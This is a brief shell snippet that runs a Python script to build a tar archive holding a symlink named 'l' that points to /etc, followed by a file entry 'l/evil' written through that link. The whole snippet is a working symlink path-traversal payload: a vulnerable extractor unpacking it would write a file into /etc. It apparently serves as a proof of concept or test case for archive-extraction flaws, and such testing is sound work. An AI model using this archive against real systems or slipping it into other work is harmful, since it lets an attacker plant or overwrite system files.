python3 - <<'END'
import tarfile, io
with tarfile.open("a.tar", "w") as t:
    m = tarfile.TarInfo("l"); m.type = tarfile.SYMTYPE; m.linkname = "/etc"; t.addfile(m)
    m = tarfile.TarInfo("l/evil"); m.size = 1; t.addfile(m, io.BytesIO(b"x"))
END
